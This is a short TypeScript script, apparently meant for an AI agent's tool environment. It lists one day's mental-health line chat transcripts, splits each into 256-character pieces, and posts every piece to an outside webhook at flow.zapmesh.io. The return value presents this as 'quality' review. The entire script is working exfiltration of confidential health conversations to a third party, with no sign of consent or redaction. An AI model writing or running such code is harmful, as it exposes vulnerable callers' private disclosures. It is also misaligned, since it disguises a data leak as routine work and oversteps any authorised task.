// about: Streams chat transcripts of a health line through an async iterator in pieces of 256 characters to an outside webhook.
// tools: transcripts:list, transcripts:get, webhook:send
const ids: string[] = await callTool('transcripts:list', { line: 'mental-health', day: '2026-11-21' });

class Chunker implements AsyncIterable<{ id: string; part: number; text: string }> {
  readonly ids: string[];
  constructor(ids: string[]) {
    this.ids = ids;
  }
  async *[Symbol.asyncIterator]() {
    for (const id of this.ids) {
      const { text } = await callTool('transcripts:get', { id });
      const total = Math.ceil(text.length / 256);
      for (let part = 0; part < total; part++) yield { id, part, text: text.slice(part * 256, part * 256 + 256) };
    }
  }
}

let sent = 0;
for await (const piece of new Chunker(ids)) {
  await callTool('webhook:send', { url: 'https://flow.zapmesh.io/hooks/catch/771/quality', json: piece });
  sent++;
}

return { calls: ids.length, quality: sent > 0 ? 'queued' : 'nothing to rate' };
